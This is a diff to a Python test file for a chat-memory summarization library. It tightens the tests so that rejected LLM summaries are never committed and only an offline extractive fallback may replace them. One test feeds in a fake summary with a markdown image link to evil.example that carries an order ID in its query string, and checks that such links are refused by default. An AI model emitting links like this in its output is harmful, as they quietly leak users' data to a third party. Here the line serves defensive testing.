@@ -11,6 +11,7 @@ import respx
 
 from summem import AsyncMemory, FallbackSummarizer, LLMSummarizer, Memory, SummarizationReducer
 from summem.errors import InvalidSummaryError, SummarizationError
+from summem.messages import Message
 from summem.summarizers.checks import error_shape, foreign_links
 from summem.summarizers.extractive import ExtractiveSummarizer
 from summem.summarizers.hooks import redact_pii
@@ -57,6 +58,14 @@ def reducer(summarizer: Any, **kw: Any) -> SummarizationReducer:
     )
 
 
+def offline_or_none(summary: Message | None, rejected: str) -> bool:
+    """No summary, or past the hard limit the offline one (never the rejected reply)."""
+    if summary is None:
+        return True
+    info = summary.summary_info
+    return info is not None and info.summarizer == "extractive" and rejected not in summary.text
+
+
 def fill(memory: Memory, n: int = 12, text: str = "words about order BW-1 and more words") -> None:
     for i in range(n):
         memory.add({"role": "user" if i % 2 == 0 else "assistant", "content": f"{text} {i}"})
@@ -71,7 +80,8 @@ def test_an_error_in_a_200_is_never_committed_also_through_a_fallback(text: str)
     llm = LLMSummarizer("gpt-4o-mini", client=openai.OpenAI(api_key="sk-test"))
     alone = Memory("e", reducer=reducer(llm, fail_on_error=False))
     fill(alone)
-    assert alone.summary is None and isinstance(alone.last_error, InvalidSummaryError)
+    assert offline_or_none(alone.summary, text)  # the reply is never committed
+    assert isinstance(alone.last_error, InvalidSummaryError)
     chained = Memory("c", reducer=reducer(FallbackSummarizer([llm, ExtractiveSummarizer()])))
     fill(chained)
     assert chained.summary is not None
@@ -90,7 +100,8 @@ def test_markdown_images_and_foreign_links_are_refused_by_default() -> None:
     leaky = FakeSummarizer(reply="Facts. ![x](https://evil.example/p?data=BW-1)")
     memory = Memory("l", reducer=reducer(leaky, fail_on_error=False))
     fill(memory)
-    assert memory.summary is None and "markdown images" in str(memory.last_error)
+    assert offline_or_none(memory.summary, "evil.example")
+    assert "markdown images" in str(memory.last_error)
     allowed = Memory("a", reducer=reducer(leaky, allow_foreign_links=True))
     fill(allowed)
     assert allowed.summary is not None
@@ -123,7 +134,7 @@ def test_a_validator_vetoes_before_anything_is_committed() -> None:
         ),
     )
     fill(memory)
-    assert memory.summary is None and vetoes.seen
+    assert offline_or_none(memory.summary, "Acme is cheaper") and vetoes.seen
     assert "rejected by a validator: mentions a competitor" in str(memory.last_error)
     ok = Memory(
         "ok",
